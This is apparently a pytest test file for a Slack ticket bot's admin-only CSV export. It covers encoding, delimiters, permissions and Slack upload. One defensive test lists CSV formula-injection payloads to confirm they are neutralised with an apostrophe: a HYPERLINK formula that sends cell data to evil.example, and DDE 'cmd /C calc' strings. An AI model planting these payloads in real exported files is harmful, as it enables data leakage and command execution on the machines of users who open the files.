"""`/ticket-admin export`: a CSV Excel opens with umlauts intact, for admins only,
streamed, and uploaded with Slack's current file flow to the admin's DM."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from typing import Any

import pytest

from flashticket_core.domain.enums import Status
from flashticket_core.errors import NotAllowed
from flashticket_core.i18n import Language
from flashticket_core.service_layer.export import COLUMNS, neutralise
from flashticket_core.service_layer.services import TicketService
from tests.bot_harness import Bot
from tests.conftest import ADMIN, ALICE, BOB, SUPPORT, Clock


def parse(text: str, delimiter: str) -> list[list[str]]:
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with the byte-order mark
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def test_export_of_a_period_with_every_field(service: TicketService, clock: Clock) -> None:
    clock.now = datetime(2026, 1, 31, 23, 0, tzinfo=UTC)
    service.open_ticket(
        ALICE, title="Januar: Drucker grün", description='Zeile 1\nZeile 2; "quoted"'
    )
    clock.now = datetime(2026, 2, 1, 9, 0, tzinfo=UTC)
    feb = service.open_ticket(BOB, title="Februar: Maus").id
    service.take(SUPPORT, feb)
    gone = service.open_ticket(BOB, title="deleted").id
    service.delete(ADMIN, gone)
    out = io.StringIO()
    count = service.export_csv(
        ADMIN, out, since=datetime(2026, 1, 1, tzinfo=UTC), until=datetime(2026, 2, 1, tzinfo=UTC)
    )
    rows = parse(out.getvalue(), ",")
    assert count == 1
    assert rows[0] == list(COLUMNS)
    assert rows[1][1] == "Januar: Drucker grün"
    assert rows[1][2] == 'Zeile 1\nZeile 2; "quoted"'
    everything = io.StringIO()
    assert service.export_csv(ADMIN, everything) == 2  # the deleted ticket is not exported
    february = dict(zip(COLUMNS, parse(everything.getvalue(), ",")[2], strict=True))
    assert february["status"] == Status.IN_PROGRESS.value
    assert february["assignee_id"] == SUPPORT
    assert february["created_at"] == "2026-02-01 09:00:00"


def test_german_export_uses_semicolons(service: TicketService) -> None:
    service.open_ticket(ALICE, title="Umlaute äöü ß")
    service.language = Language.DE
    out = io.StringIO()
    service.export_csv(ADMIN, out)
    rows = parse(out.getvalue(), ";")
    assert rows[1][1] == "Umlaute äöü ß"


@pytest.mark.parametrize("actor", [ALICE, SUPPORT])
def test_only_admins_export(service: TicketService, actor: str) -> None:
    out = io.StringIO()
    with pytest.raises(NotAllowed):
        service.export_csv(actor, out)
    assert out.getvalue() == ""


def test_export_is_uploaded_to_the_admins_dm(bot: Bot) -> None:
    ticket_id = bot.open_ticket(ALICE, "Bildschirm flackert")
    bot.command(ADMIN, f"grant <@{SUPPORT}> support", command="/ticket-admin")
    bot.click(SUPPORT, ticket_id, "ticket.take")
    # The names Slack sends with a command or a click are kept for the export.
    service = bot.running.core.service
    bot.slack.wait_for(
        lambda _calls: (
            service.knows_name(ALICE, ALICE.lower())
            and service.knows_name(SUPPORT, SUPPORT.lower())
        )
    )
    response = bot.command(ADMIN, "export", command="/ticket-admin")
    assert "Preparing the export" in json.dumps(response.json())
    complete = bot.slack.wait_for("files.completeUploadExternal")[-1]
    assert complete.ok
    opened = bot.slack.calls("conversations.open")[-1]
    assert opened.args["users"] == ADMIN
    assert complete.args["channel_id"] == opened.response["channel"]["id"]
    assert "Export of 1 tickets" in complete.args["initial_comment"]
    file_id = complete.args["files"][0]["id"]
    uploaded = bot.slack.upload(file_id)
    assert uploaded is not None
    rows = parse(uploaded.decode("utf-8"), ",")
    assert rows[1][1] == "Bildschirm flackert"
    row = dict(zip(COLUMNS, rows[1], strict=True))
    assert (row["reporter_id"], row["reporter_name"]) == (ALICE, ALICE.lower())
    assert (row["assignee_id"], row["assignee_name"]) == (SUPPORT, SUPPORT.lower())


def test_names_are_stored_once_and_follow_a_rename(service: TicketService) -> None:
    service.open_ticket(ALICE, title="Maus")
    service.remember_names({ALICE: "  Alice   Müller ", "not an id": "x", BOB: ""})
    assert service.knows_name(ALICE, "Alice Müller")
    assert not service.knows_name(BOB, "")
    service.remember_names({ALICE: "Alice Meyer"})
    out = io.StringIO()
    service.export_csv(ADMIN, out)
    row = dict(zip(COLUMNS, parse(out.getvalue(), ",")[1], strict=True))
    assert row["reporter_name"] == "Alice Meyer"
    assert row["assignee_name"] == ""


def test_export_refusals(bot: Bot) -> None:
    refused = bot.command(SUPPORT, "export", command="/ticket-admin")
    assert "not allowed to export" in json.dumps(refused.json())
    bad = bot.command(ADMIN, "export 2026-13-01", command="/ticket-admin")
    assert "YYYY-MM-DD" in json.dumps(bad.json())
    assert bot.slack.calls("files.getUploadURLExternal") == []


HOSTILE_TITLES = [
    '=HYPERLINK("https://evil.example/?d="&C2,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "＝full-width equals",
    "plain title = not a formula",
    "'already quoted",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝")


@pytest.mark.parametrize("language", [Language.EN, Language.DE])
def test_hostile_cells_round_trip_as_text(service: TicketService, language: Language) -> None:
    """OWASP CSV injection: no cell a person wrote can start a formula, and every title
    reads back as what was typed, behind the apostrophe spreadsheets take for "text"."""
    stored = []
    for title in HOSTILE_TITLES:
        ticket_id = service.open_ticket(ALICE, title=title, description=title).id
        detail = service.show(ADMIN, ticket_id)
        stored.append((detail.ticket.title, detail.description))
    service.remember_names({ALICE: "=cmd|' /C calc'!A0"})
    service.language = language
    out = io.StringIO()
    service.export_csv(ADMIN, out)
    rows = parse(out.getvalue(), ";" if language is Language.DE else ",")[1:]
    assert len(rows) == len(HOSTILE_TITLES)
    for row, (title, description) in zip(rows, stored, strict=True):
        record = dict(zip(COLUMNS, row, strict=True))
        for cell in (record["title"], record["description"], record["reporter_name"]):
            assert not cell.startswith(TRIGGERS)
        assert record["title"] == ("'" + title if title.startswith(TRIGGERS) else title)
        assert record["description"] == (
            "'" + description if description.startswith(TRIGGERS) else description
        )
        assert record["reporter_name"] == "'=cmd|' /C calc'!A0"
    # Every cell is quoted, so no separator or line break inside a title splits a row.
    assert out.getvalue().splitlines()[0].startswith('\ufeff"id"')


@pytest.mark.parametrize("cell", ["\tx", "\rx", "=1", "+1", "-1", "@x", "＝1"])
def test_every_trigger_is_neutralised(cell: str) -> None:
    # Titles and descriptions are trimmed before they are stored; the export does not
    # rely on that.
    assert neutralise(cell) == "'" + cell
    assert neutralise("x" + cell) == "x" + cell


@pytest.mark.parametrize("command", ["export", "stats"])
def test_a_file_that_cannot_be_sent_is_apologised_for_in_the_dm(
    bot: Bot, command: str, caplog: pytest.LogCaptureFixture
) -> None:
    """The export and the charts go out after the answer: when Slack refuses the
    upload, the person waiting for the file is told, with the error id of the log."""
    bot.slack.fail_next("files.completeUploadExternal", error="internal_error")
    response = bot.command(
        ADMIN, command, command="/ticket" if command == "stats" else "/ticket-admin"
    )
    assert response.status == 200

    def apologies(calls: list[Any]) -> list[Any]:
        return [
            c
            for c in calls
            if c.method == "chat.postMessage"
            and c.args["channel"] == ADMIN
            and "error id" in c.args["text"]
        ]

    told = apologies(bot.slack.wait_for(lambda calls: bool(apologies(calls))))[0]
    error_id = re.search(r"`([0-9a-f]{10})`", told.args["text"])
    assert error_id is not None
    assert any(error_id.group(1) in r.getMessage() for r in caplog.records)
